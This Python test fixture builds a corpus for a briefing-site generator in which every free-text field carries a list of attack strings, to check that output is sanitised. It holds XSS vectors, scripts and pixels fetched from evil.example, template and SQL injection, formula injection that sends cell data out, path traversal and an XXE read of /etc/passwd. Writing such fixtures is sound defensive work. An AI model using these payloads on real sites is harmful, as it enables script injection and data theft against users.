"""A corpus in which every field that takes any text carries every attack that we know.

The fields are found by reflection: one that is new is attacked without being named here. Only those
that take no free text, such as dates and ids, stand below with what they hold instead.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Mapping
from typing import Any, Final

import yaml

from policybrief.models.actor import Country, Organization, Person
from policybrief.models.article import Article, Defaults, Ignored
from policybrief.models.briefing import Briefing, Look, Quotation
from policybrief.models.coding import Coding
from policybrief.models.correction import Correction
from policybrief.models.fact import Fact
from policybrief.models.role import Membership, Role
from policybrief.models.source import Event, Publisher
from policybrief.models.stance import Stance
from policybrief.models.statement import Speaker, Statement
from policybrief.models.topic import Topic
from policybrief.reading import records as _own_forms  # noqa: F401 - fills the forms in
from policybrief.reading.structuring import plans

RUN: Final = "window.__pwned=1"
"""What an attack runs where it succeeds."""

PAYLOADS: Final = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f'"><svg/onload={RUN}>',
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<iframe src=javascript:{RUN}></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='java&#9;script:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<div style='width:expression({RUN});background:url(https://evil.example/x)'>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></xmp></noembed><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>",
    "<!-- not closed",
    "<p title='not closed",
    "<div><div></p></td></tr></table></article></main></body></html>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?php {RUN} ?><%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"'-{RUN}-'",
    f'"-{RUN}-"',
    f"`${{{RUN}}}`",
    f"\\'; {RUN}; //",
    f"javascript:{RUN}",
    f"java\\tscript:{RUN}",
    "//evil.example/x",
    "https://example.org@evil.example/",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN} 'title')",
    f"[x](<javascript:{RUN}>)",
    f"[x]: javascript:{RUN}",
    "[x][x] ![x][x]",
    "![x](https://evil.example/pixel.png)",
    f'![x](x "onerror={RUN}")',
    f"![x](x){{: onerror={RUN} }}",
    f"{{: onclick={RUN} style=color:red id=top class=md-header }}",
    f"{{ #top onclick={RUN} }}",
    f"<javascript:{RUN}>",
    "<https://evil.example/>",
    "[TOC]",
    "[^1] [^1]: a note",
    "*[x]: an abbreviation",
    ":smile: :fontawesome-brands-x:",
    "$x$ \\(x\\) $$x$$ \\[x\\]",
    '--8<-- "briefing.yml"',
    "/// html | script\n" + RUN + "\n///",
    "!!! note",
    '=== "tab"',
    f"```html\n<script>{RUN}</script>\n```",
    "# a heading of its own",
    "a heading\n===",
    "- an item\n- another",
    "1. one\n2. two",
    "> a quote",
    "    code",
    "| a | b |\n|---|---|\n| c | d |",
    ": a definition",
    "---",
    "---\ntitle: another\n---",
    "...",
    "{{ [].__class__.__mro__ }}",
    "{{ config.items() }}{{ 7*7 }}",
    f"{{% raw %}}<script>{RUN}</script>{{% endraw %}}",
    "{% include 'about.md.jinja' %}",
    "{# a comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "abc\u202egnp.exe\u202c",
    "\u2066isolated\u2069",
    "zero\u200cwidth\u200djoiners",
    "\u0430\u0440\u0440\u04cf\u0435.com",
    "klzzwxh:0001 wzxhzdk:1",
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
    "%0d%0aSet-Cookie: x=1",
    "../../../../etc/passwd",
    "}; DROP TABLE statements; --",
    "' OR '1'='1",
    "\\input{/etc/passwd} @article{x, title = {",
    "ER  - \nTY  - JOUR",
    "]]></data></node><node id='x'/>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
)
"""What a reader accepts, one attack each."""

UNREAD: Final = (
    "a\x00b",
    f"java\tscript:{RUN}",
    f"java\x01script:{RUN}",
    "a\u2028b\u2029c",
    "a\u200bb\u2060c\ufeffd",
    "a\x1b[31mb",
    "a\x85b\x9bc",
    "\ud800",
    "\ufffe\uffff",
)
"""What a reader refuses, and a corpus made in Python may hold all the same."""

BAD_URLS: Final = (
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    "data:text/html,<script>x</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "ftp://example.org/",
    "//evil.example/",
    "/etc/passwd",
    "example.org",
    "https:example.org",
    "https://",
    "https:///x",
    "https://example.org@evil.example/",
    "https://user:secret@example.org/",
    "https://example.org\\@evil.example/",
    "https://example.org/\u202ex",
    "https://example.org/a b",
    "https://example.org/\nx",
    'https://example.org/"onclick=x',
    "https://example.org/<script>",
    "https://exam\u200bple.org/",
)
"""What is no address that a page may link to."""

GOOD_URLS: Final = (
    "https://example.org",
    "http://example.org:8080/a/b?c=d&e=f#g",
    "https://example.org?q=a@b",
    "https://example.org/a_(b)'c;d,e!f*g[h]{i}|j^k`l",
    "https://m\u00fcnchen.example/stra\u00dfe",
    "https://192.0.2.1/",
    "https://[2001:db8::1]/",
    "HTTPS://EXAMPLE.ORG/",
)


def joined(start: int = 0) -> str:
    """Return all attacks as one text, beginning with another each time."""
    at = start % len(PAYLOADS)
    return " ".join(" ".join(one.split()) for one in (*PAYLOADS[at:], *PAYLOADS[:at]))


FORMS: Final[Mapping[tuple[type, str], Any]] = {
    (Article, "publisher"): "daily",
    (Article, "url"): "https://example.org/a?b=c&d=<e>".replace("<e>", "%3Ce%3E'`{}[]|^"),
    (Article, "archived"): "https://example.org/web/2025/https://example.org/a?b='`{}[]|^",
    (Article, "archived_on"): "2025-11-04",
    (Article, "date"): "2025-11-03",
    (Article, "lang"): "en",
    (Article, "rights"): "open",
    (Article, "text"): None,
    (Article, "text_hash"): None,
    (Article, "draft"): None,
    (Article, "publish_after"): None,
    (Article, "withdrawn"): None,
    (Article, "corrections"): None,
    (Article, "reviewed"): None,
    (Article, "ignore"): [{"from": "ignored from here", "to": "to here"}],
    (Article, "defaults"): None,
    (Article, "statements"): None,
    (Article, "facts"): None,
    (Statement, "speaker"): None,
    (Statement, "quote"): None,
    (Statement, "reported"): None,
    (Statement, "said"): "2025-11-01",
    (Statement, "stances"): {"pier": {"position": "for", "if": "ferry"}, "dam": "against"},
    (Statement, "nth"): "1",
    (Statement, "event"): "opening",
    (Statement, "lang"): "en",
    (Statement, "same_as"): None,
    (Statement, "personal"): None,
    (Statement, "withdrawn"): None,
    (Statement, "corrections"): None,
    (Statement, "codings"): None,
    (Statement, "id"): None,
    (Correction, "date"): "2025-11-04",
    (Coding, "stances"): {"pier": "against"},
    (Publisher, "rights"): None,
    (Speaker, "name"): None,
    (Speaker, "of"): "northland",
    (Stance, "position"): "for",
    (Fact, "as_of"): "2025",
    (Fact, "quote"): "nobody knows",
    (Person, "country"): "northland",
    (Person, "roles"): None,
    (Person, "distinct_from"): None,
    (Person, "draft"): None,
    (Role, "of"): "northland",
    (Role, "kind"): "head-of-state",
    (Role, "span"): "2020/..",
    (Role, "acting"): None,
    (Role, "speaks_for"): None,
    (Role, "authority"): None,
    (Organization, "type"): "alliance",
    (Organization, "country"): "northland",
    (Organization, "memberships"): None,
    (Organization, "draft"): None,
    (Country, "memberships"): [{"organization": "league", "span": "2004/.."}],
    (Country, "draft"): None,
    (Topic, "asked_of"): ["northland", "is", "league"],
    (Topic, "draft"): None,
    (Topic, "labels"): None,
    (Publisher, "url"): "https://example.org/",
    (Publisher, "country"): "northland",
    (Publisher, "lang"): "en",
    (Event, "date"): "2025-11-01",
    (Event, "url"): "https://example.org/",
    (Briefing, "language"): "en",
    (Briefing, "site_url"): "https://example.org/brief/",
    (Briefing, "as_of"): None,
    (Briefing, "look"): None,
    (Briefing, "rights"): None,
    (Briefing, "conditions"): None,
    (Briefing, "subjects"): None,
    (Briefing, "quotation"): None,
    (Briefing, "window"): None,
    (Briefing, "require_checked"): None,
    (Briefing, "require_sources"): None,
    (Briefing, "quiet"): None,
    (Briefing, "authority"): None,
}
"""What fields hold that take no free text; None where `attacked` gives it or leaves it out."""

ATTACKED: Final = (
    *(Article, Statement, Speaker, Fact, Person, Role, Organization, Country),
    *(Topic, Publisher, Event, Briefing, Correction, Coding),
)
"""The records whose fields are attacked."""

ELSEWHERE: Final = (Stance, Ignored, Defaults, Look, Quotation, Membership)
"""The records that hold no free text."""


def attacked_fields(kind: type) -> list[str]:
    """Return the keys of a record that take any text."""
    return [key for key, plan in plans(kind).items() if (kind, plan.name) not in FORMS]


def record(cls: type, count: Iterator[int], /, **given: Any) -> dict[str, Any]:
    """Return a record in which every field carries all attacks, or the form that it needs."""
    found: dict[str, Any] = {}
    for key, plan in plans(cls).items():
        if key in given:
            continue
        value = FORMS.get((cls, plan.name), ...)
        if value is ...:
            value = joined(next(count))
            if key in ("aka", "keywords", "government", "to", "about"):
                value = [value]
        if value is not None:
            found[key] = value
    return {**given, **found}


class _Dumper(yaml.SafeDumper):
    """Writes what stands twice twice."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def _yaml(fields: Mapping[str, Any]) -> str:
    style = {"default_style": '"', "width": 1 << 30, "allow_unicode": True, "sort_keys": False}
    return yaml.dump(fields, Dumper=_Dumper, **style)


def _file(fields: Mapping[str, Any], body: str) -> str:
    return f"---\n{_yaml(fields)}---\n{body}\n"


def attacked(shift: int = 0) -> Mapping[str, str]:
    """Return a corpus that is valid, and hostile wherever it can be.

    Args:
        shift: Which attack comes first in the first field.
    """
    count = itertools.count(shift)

    def text() -> str:
        return joined(next(count))

    quotes = [text() for _ in range(2)]
    named = record(Speaker, count, name=f"Nameless {text()}")
    named["as"] = named.pop("described")
    corrections = [record(Correction, count)]
    said = [
        record(
            Statement,
            count,
            speaker="ada-brook",
            quote=quotes[0],
            corrections=corrections,
            codings=[record(Coding, count), record(Coding, count)],
        ),
        record(
            Statement,
            count,
            speaker=named,
            quote=quotes[1],
        ),
        record(
            Statement,
            count,
            speaker={"unnamed": text(), "of": "northland"},
            reported="she spoke on",
        ),
        record(
            Statement,
            count,
            speaker="northland",
            quote="too late",
            withdrawn=text(),
            corrections=corrections,
        ),
        record(Statement, count, speaker="author", quote="nobody knows why"),
    ]
    body = "\n\n".join(
        [
            "And she spoke on, too late, and nobody knows why. Here ignored from here to here.",
            *quotes,
            *PAYLOADS,
        ]
    )
    roles = [{**record(Role, count), "title": f"president {text()}"}]
    labels = {one: text() for one in ("for", "leans-for", "open", "leans-against", "against")}
    settings = record(
        Briefing,
        count,
        conditions={"ferry": text()},
        subjects={"pier-light": text()},
        quotation={"words": "100000", "share": "100%"},
        quiet=[],
    )
    prose = "\n\n".join((text(), *PAYLOADS))
    fact = record(Fact, count)
    return {
        "briefing.yml": _yaml({**settings, "contact": text()}),
        "about.md": prose,
        "actors/northland.md": _file(record(Country, count, kind="country"), prose),
        "actors/league.md": _file(record(Organization, count, kind="organization"), prose),
        "actors/ada-brook.md": _file(record(Person, count, kind="person", roles=roles), prose),
        "topics/pier.md": _file(record(Topic, count, labels=labels), prose),
        "topics/dam.md": _file(record(Topic, count), prose),
        "publishers/daily.md": _file(record(Publisher, count), prose),
        "events/opening.md": _file(record(Event, count), prose),
        "articles/news.md": _file(
            record(
                Article,
                count,
                statements=said,
                corrections=[record(Correction, count)],
                facts=[
                    fact,
                    {**fact, "value": text()},
                    {**fact, "value": "650", "unit": "km"},
                    {**fact, "subject": "pier-light"},
                ],
            ),
            body,
        ),
        "articles/notes.md": _file(
            record(Article, count, text="texts/notes.txt", statements=[], facts=[]), prose
        ),
        "articles/gone.md": _file(
            record(Article, count, withdrawn=text(), statements=[], facts=[]), body
        ),
        "texts/notes.txt": body,
    }
